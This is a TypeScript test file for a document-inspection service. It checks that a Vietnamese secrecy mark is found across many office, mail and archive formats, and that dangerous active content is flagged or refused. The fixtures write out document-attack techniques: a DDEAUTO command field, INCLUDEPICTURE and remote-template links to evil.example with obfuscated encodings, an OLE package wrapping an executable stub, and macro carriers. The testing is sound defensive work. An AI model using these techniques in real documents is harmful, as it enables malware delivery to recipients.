import assert from "node:assert/strict";
import type { ActiveKind } from "../../../src/domain/files/active-content.ts";
import { compoundFixture, useInspection } from "../../support/inspection-in-use.ts";
import { pdfWithFile } from "../../support/eicar-files.ts";
import { makeOffice, makeZip } from "../../support/zip-fixture.ts";

const transitional = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const strict = "http://purl.oclc.org/ooxml/wordprocessingml/main";
const mark = "TỐI MẬT";

/** A Word document whose text is this part, under any name. */
const docx = (xml: string | Buffer, name = "word/document.xml") =>
  makeZip([
    {
      name: "[Content_Types].xml",
      content:
        '<Types><Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    },
    { name, content: xml },
  ]);

describe("the same thing, written in another way", () => {
  const { inspect, refusal } = useInspection();

  const documents: readonly (readonly [how: string, xml: string | Buffer])[] = [
    [
      "with another prefix",
      `<x:document xmlns:x="${transitional}"><x:p><x:r><x:t>${mark}</x:t></x:r></x:p></x:document>`,
    ],
    ["without a prefix", `<document xmlns="${strict}"><p><r><t>${mark}</t></r></p></document>`],
    [
      "with a prefix that is declared late, behind a quoted sign",
      `<a:document xmlns:a="${transitional}"><b:p a:rsid="1>2" xmlns:b="${strict}"><b:r><b:t>${mark}</b:t></b:r></b:p></a:document>`,
    ],
    [
      "in UTF-16",
      Buffer.from(`\uFEFF<w:document><w:p><w:r><w:t>${mark}</w:t></w:r></w:p></w:document>`, "utf16le"),
    ],
    [
      "letter by letter, in numbers and as a literal",
      "<w:document><w:p><w:r><w:t>T&#7888;I <![CDATA[M]]></w:t></w:r><w:r><w:t>&#x1EAC;T</w:t></w:r></w:p></w:document>",
    ],
    [
      "as letters that are drawn",
      `<w:document><w:p><w:r><w:pict><v:shape><v:textpath style="x" string="${mark}"/></v:shape></w:pict></w:r></w:p></w:document>`,
    ],
    [
      "for programs that know a newer form, and for older ones",
      `<w:document><w:p><mc:AlternateContent><mc:Choice><w:txbxContent><w:p><w:r><w:t>${mark}</w:t></w:r></w:p></w:txbxContent></mc:Choice></mc:AlternateContent></w:p></w:document>`,
    ],
  ];
  for (const [how, xml] of documents)
    it(`is a mark of secrecy in a Word document ${how} (R07)`, async () => {
      const { firstPage } = await inspect("a.docx", docx(xml, "x.dat"));
      assert.ok(firstPage?.some(({ text }) => text === mark));
      const zip = makeZip([{ name: "trong.docx", content: docx(xml) }]);
      const { marks } = await inspect("a.zip", zip, "attachment");
      assert.deepEqual(
        marks.map(({ mark: found, entry }) => [found, entry]),
        [[mark, "trong.docx"]],
      );
    });

  const drawn = `<p:sld><p:sp><a:p><a:r><a:t>${mark}</a:t></a:r></a:p></p:sp></p:sld>`;
  const cells = (...texts: readonly string[]) =>
    `<row>${texts.map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join("")}</row>`;
  const sheet = (...rows: readonly string[]) =>
    `<worksheet><sheetData>${rows.join("")}</sheetData></worksheet>`;
  const office = (kind: "xlsx" | "pptx", name: string, content: string) =>
    makeOffice(kind, [], [{ name, content }]);
  const odt = makeZip([
    { name: "mimetype", content: "application/vnd.oasis.opendocument.text" },
    {
      name: "content.xml",
      content: `<office:document-content><text:p>UBND TỈNH</text:p><text:p>${mark}</text:p></office:document-content>`,
    },
  ]);
  const mail = (coding: string, body: string) =>
    `From: a@example.vn\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: ${coding}\r\n\r\n${body}\r\n`;
  const quoted = Array.from(Buffer.from(mark), (byte) => `=${byte.toString(16).toUpperCase()}`).join("");
  const files: readonly (readonly [name: string, bytes: Buffer | string])[] = [
    ["bang.xlsx", office("xlsx", "xl/worksheets/sheet1.xml", sheet(cells("UBND TỈNH"), cells(mark)))],
    [
      "in.xlsx",
      office(
        "xlsx",
        "xl/worksheets/a.xml",
        sheet().replace(
          "</worksheet>",
          `<headerFooter><oddHeader>&amp;C&amp;"Arial,Bold"&amp;14${mark}</oddHeader></headerFooter></worksheet>`,
        ),
      ),
    ],
    ["trinh-chieu.pptx", office("pptx", "ppt/slides/slide1.xml", drawn)],
    ["van-ban.odt", odt],
    ["ghi-chu.txt", `UBND TỈNH\r\n${mark}\r\nKính gửi`],
    ["trang.html", `<html><body><p>UBND TỈNH</p><p>${mark}</p></body></html>`],
    ["thu.eml", mail("8bit", mark)],
    ["thu-khac.eml", mail("quoted-printable", quoted)],
    ["thu-nua.eml", mail("base64", Buffer.from(`Kính gửi các đơn vị\n${mark}\n`).toString("base64"))],
    [
      "thu.msg",
      compoundFixture({ "/__substg1.0_1000001F": Buffer.from(`Kính gửi\r\n${mark}\r\n`, "utf16le") }),
    ],
  ];
  for (const [name, content] of files)
    it(`is a mark of secrecy in ${name} within an archive (R07)`, async () => {
      const { marks } = await inspect("a.zip", makeZip([{ name, content }]), "attachment");
      assert.deepEqual(
        marks.map(({ mark: found, entry }) => [found, entry]),
        [[mark, name]],
      );
    });

  it("is a mark in a workbook or a presentation by itself; a column of grades, or a lesson on them, is none", async () => {
    for (const [name, bytes] of files.slice(0, 3)) {
      const { marks } = await inspect(name, bytes);
      assert.deepEqual(
        marks.map(({ mark: found }) => found),
        [mark],
        name,
      );
    }
    const list = sheet(cells("Số", "Ngày", "Trích yếu", "Độ mật"), cells("1", "2", "Kế hoạch", mark));
    const lesson = drawn.replace("</p:sld>", `${drawn.slice(7, -8).replace(mark, "MẬT")}</p:sld>`);
    for (const [name, bytes] of [
      ["a.xlsx", office("xlsx", "xl/worksheets/sheet1.xml", list)],
      ["a.pptx", office("pptx", "ppt/slides/slide1.xml", lesson)],
    ] as const)
      assert.deepEqual((await inspect(name, bytes)).marks, [], name);
  });

  const field = (code: string) =>
    `<x:document xmlns:x="${strict}"><x:p><x:r><x:instrText>${code}</x:instrText></x:r></x:p></x:document>`;
  const page = [
    "MIME-Version: 1.0",
    "Content-Type: application/x-mso",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(`ActiveMime${"x".repeat(60)}`).toString("base64"),
    "",
  ].join("\r\n");
  const packed = Buffer.concat([
    Buffer.from("\0\0\0\0\u0002\0hoa-don.pdf\0C:\\a.exe\0\0\0\u0003\0", "latin1"),
    Buffer.from([2, 0, 0, 0, 0x61, 0, 4, 0, 0, 0]),
    Buffer.from("MZ\u0090\0", "latin1"),
  ]);
  const active: readonly (readonly [
    what: string,
    name: string,
    bytes: Buffer | string,
    kinds: ActiveKind[],
  ])[] = [
    ["a command with another prefix", "a.docx", docx(field("DDEAUTO cmd")), ["launch"]],
    [
      "a picture that a field fetches",
      "a.docx",
      docx(field('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
      ["externalLinks"],
    ],
    [
      "a template whose kind and place are written in numbers",
      "a.docx",
      makeOffice(
        "docx",
        [],
        [
          {
            name: "word/_rels/settings.xml.rels",
            content:
              '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="1" Type="http://x/attached&#84;emplate" Target="http&#58;//evil.example/t.dotm" TargetMode="External"></r:Relationship></r:Relationships>',
          },
        ],
      ),
      ["remoteTemplate"],
    ],
    [
      "a template in an RTF, letter by letter",
      "a.rtf",
      "{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?//evil.example/a}}",
      ["remoteTemplate"],
    ],
    ["macros in a page that is kept as a mail under the name of a document", "thu.doc", page, ["macros"]],
    [
      "a program in an object that Word calls a package",
      "a.doc",
      compoundFixture({ "/ObjectPool/_1/\u0001Ole10Native": packed }),
      ["objects", "launch"],
    ],
    ["a workbook of an old kind that is only text and runs", "so-lieu.slk", "ID;P\n", ["launch"]],
    [
      "macros of an OpenDocument file",
      "a.odt",
      makeZip([{ name: "Basic/Standard/Module1.xml", content: "<script:module/>" }]),
      ["macros"],
    ],
  ];
  for (const [what, name, content, kinds] of active)
    it(`is found as what it does: ${what}`, async () => {
      const zip = makeZip([{ name, content }]);
      const facts = await inspect("a.zip", zip, "attachment", undefined, []);
      assert.deepEqual(facts.active, kinds);
    });

  it("is refused where it cannot be looked into: a password, a notebook, an archive of another kind anywhere", async () => {
    const locked = compoundFixture({ "/EncryptedPackage": Buffer.alloc(40) });
    const sealed = makeZip([
      { name: "META-INF/manifest.xml", content: "<manifest:encryption-data/>" },
      { name: "content.xml", content: "\u0001\u0002" },
    ]);
    for (const [name, content, code] of [
      ["a.docx", locked, "intake.locked-within"],
      ["a.odt", sealed, "intake.locked-within"],
      ["a.one", Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex"), "intake.unreadable-within"],
    ] as const)
      assert.equal(await refusal("a.zip", makeZip([{ name, content }]), "attachment"), code, name);
    const rar = Buffer.from(`Rar!\u001a\u0007\u0001\0${"x".repeat(40)}`, "latin1");
    assert.equal(await refusal("a.pdf", await pdfWithFile("a.rar", rar)), "intake.unreadable-within");
    const two = Buffer.concat([await pdfWithFile("a.txt", "a"), Buffer.from(`\r\n${page}`)]);
    const named = makeZip([{ name: "thu.doc", content: two }]);
    assert.equal(await refusal("a.zip", named, "attachment"), "intake.two-in-one");
  });
});
